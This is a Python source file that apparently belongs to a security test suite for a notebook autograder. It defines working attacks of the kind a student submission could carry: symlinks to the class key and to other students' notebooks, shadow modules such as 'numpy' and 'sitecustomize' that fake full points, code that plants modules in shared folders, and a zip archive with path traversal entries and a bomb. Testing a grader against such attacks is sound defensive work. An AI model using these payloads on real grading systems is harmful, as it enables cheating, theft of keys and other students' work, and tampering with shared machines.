"""Attacks by what lies in the submission's folder, or in an archive of submissions."""

from __future__ import annotations

import os
import stat
import zipfile
from pathlib import Path
from typing import Any

from attacks import arena
from attacks.attack import Attack, filled

READS_BESIDE = """
import os

for name in sorted(os.listdir(".")):
    try:
        text = open(name, encoding="latin-1").read(2_000_000)
    except OSError:
        continue
    if "canary-sol" in text or len(text.strip()) == 64:
        tell("beside the notebook:", name, text[-200:])

def rms(x):
    return 0.0
"""

EVIL_MODULE = """
import sys
open("/tmp/left-@TOKEN@-module", "w").write("ran")
print("GOT" + "-IN: runs as", __name__, "in", sys.argv[0])

def __getattr__(name):
    class Any:
        def __getattr__(self, name): return Any()
        def __call__(self, *a, **k): return Any()
        def points(self): return 6.0
        def credit(self, *a, **k): pass
        def __iter__(self): return iter(())
    return Any()
"""


def links(folder: Path, scene: Any) -> None:
    """Links beside the notebook, to files and to a folder of the instructor."""
    for name, target in {
        "data.txt": scene.course.notebook("source", arena.NAME), "key.txt": scene.course.key, "all": scene.course.root,
        "relative.txt": "../../../secret.key", "loop": "loop",
    }.items():  # fmt: skip
        os.symlink(target, folder / name)


def stamp(folder: Path, scene: Any) -> None:
    """The time of submission is a link to the class key."""
    os.symlink(scene.course.key, folder / "timestamp.txt")


def link_itself(folder: Path, scene: Any) -> None:
    """The notebook itself is a link to another student's."""
    path = folder / f"{arena.NAME}.ipynb"
    path.unlink()
    os.symlink(scene.course.notebook("submitted", arena.NAME, "zoe"), path)


def link_folder(folder: Path, scene: Any) -> None:
    """The folder is a link to another student's."""
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    os.symlink(scene.course.notebook("submitted", arena.NAME, "zoe").parent, folder)


def pipe(folder: Path, scene: Any) -> None:
    """The notebook is a named pipe that nobody writes to."""
    path = folder / f"{arena.NAME}.ipynb"
    path.unlink()
    os.mkfifo(path)


def modules(folder: Path, scene: Any) -> None:
    """Modules of the student's beside the notebook, under the names that the tests import."""
    text = filled(EVIL_MODULE, scene.places)
    for name in (
        "numpy",
        "sitecustomize",
        "usercustomize",
        "json",
        "socket",
        "struct",
        "physiodl",
        "autograder",
        "conftest",
    ):
        (folder / f"{name}.py").write_text(text)
    (folder / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (folder / ".ipython" / "profile_default" / "startup" / "00.py").write_text(text)
    (folder / "ipython_config.py").write_text("c.InteractiveShellApp.exec_lines = ['abs = lambda x: 0']\n")
    (folder / "nbgrader_config.py").write_text("c = get_config()\nc.ClearSolutions.code_stub = {}\n" + text)


WRITES_MODULES = """
import os

text = '''
import os
try:
    open("@CLASS@/left-by-module", "w").write("x")
    open("/tmp/left-@TOKEN@-module", "w").write("x")
except OSError:
    pass
'''
for folder in (".", os.path.expanduser("~"), "@HOME@", "@TMP@", "@CLASS@", "/course", "/course/physiodl"):
    for name in ("sitecustomize", "usercustomize", "numpy", "physiodl", "arena"):
        try:
            open(f"{folder}/{name}.py", "x").write(text)
        except OSError:
            pass

def rms(x):
    return 0.0
"""

# --- archives ---


def evil_archive(path: Path, scene: Any) -> None:
    """A download with files that lead out of the folder, links, devices, two names for one file and a bomb."""
    notebook = scene.course.notebook("submitted", arena.NAME, "zoe").read_bytes()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"slip_1_{arena.NAME}.ipynb", notebook)
        for name in (
            "../../../../left-by-slip.txt", f"/tmp/left-{scene.token}-slip", "..\\..\\left-by-slip.txt",
            "a/../../left-by-slip.txt",
            "../secret.key", "../gradebook.db", "C:/left-by-slip.txt", "../../source/08_arena/08_arena.ipynb",
        ):  # fmt: skip
            archive.writestr(name, b"out")
        link = zipfile.ZipInfo(f"link_2_{arena.NAME}.ipynb")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(scene.course.key))
        under = zipfile.ZipInfo("under")
        under.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(under, str(scene.course.root))
        archive.writestr("under/left-by-slip.txt", b"through a link")
        with archive.open(f"bomb_3_{arena.NAME}.ipynb", "w", force_zip64=True) as file:
            for _ in range(400):
                file.write(bytes(1_000_000))


ATTACKS = [
    Attack(
        "links_beside",
        17,
        "Links beside the notebook lead to solutions and to the class key.",
        {"rms": READS_BESIDE},
        beside=links,
    ),
    Attack("link_for_time", 17, "The time of submission is a link to the class key.", beside=stamp),
    Attack(
        "link_for_notebook",
        17,
        "The notebook is a link to another student's.",
        beside=link_itself,
        most=dict.fromkeys(arena.POSSIBLE, 0.0),
    ),
    Attack(
        "link_for_folder",
        17,
        "The folder is a link to another student's.",
        beside=link_folder,
        most=dict.fromkeys(arena.POSSIBLE, 0.0),
    ),
    Attack(
        "modules_beside",
        None,
        "Own modules named numpy, physiodl and sitecustomize lie beside the notebook.",
        {"predict": "def predict(signals):\n    return np.zeros(len(signals))"},
        beside=modules,
    ),
    Attack("writes_modules", None, "Writes modules where others may import them.", {"rms": WRITES_MODULES}),
    Attack(
        "pipe_for_notebook", None, "The notebook is a named pipe.", beside=pipe, most=dict.fromkeys(arena.POSSIBLE, 0.0)
    ),
]
